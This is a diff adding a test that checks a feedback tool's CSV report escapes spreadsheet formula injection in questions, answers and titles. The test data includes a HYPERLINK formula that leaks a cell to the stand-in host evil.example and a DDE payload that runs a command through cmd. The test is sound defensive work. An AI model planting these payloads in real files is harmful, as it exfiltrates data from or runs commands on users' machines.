@@ -192,3 +192,37 @@ def test_the_report_of_one_collection(
     assert default["questions"] == 6 and default["not_helpful"] == 2
     main(["--config", str(config), "report", "--json"])
     assert json.loads(capsys.readouterr().out)["questions"] == 9  # every collection
+
+
+INJECTIONS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_no_csv_cell_starts_a_formula(capsys: pytest.CaptureFixture[str], data_dir: Path) -> None:
+    """Questions come from any chat user and answers and titles from article text: in
+    every column, a cell that would start a spreadsheet formula is shown as text."""
+    data_dir.mkdir(parents=True, exist_ok=True)
+    store = FeedbackStore(data_dir / "feedback.sqlite3")
+    for question in INJECTIONS:
+        store.record_answer(abstained(question), platform="slack", user_id="U1")
+    article = make_article(article_id="x", title="=1+2", body=BODY, source="x.txt")
+    chunk = Chunk("x-0", "x", 0, len(article.text), article.text)
+    answer = Answer("@evil", "-9 " + BODY, False, [Passage(1, chunk, article, 0.8)], [], "v1", 1)
+    store.vote(
+        store.record_answer(answer, platform="slack", user_id="U1"), user_id="U2", helpful=False
+    )
+    store.close()
+    rows = list(csv.reader(io.StringIO(report(capsys, "--csv")[1], newline="")))
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert {"'" + q for q in INJECTIONS[:4]} <= set(cells)
+    assert len(rows) == 1 + 4 + 5 + 1  # header, figures, five questions, one vote: no row
+    assert all(len(row) == 5 for row in rows)  # was split by a carriage return
+    down = next(r for r in rows if r[0] == "voted_down")
+    assert down[1:] == ["'@evil", "1", "'-9 " + BODY, "'=1+2 <x.txt>"]
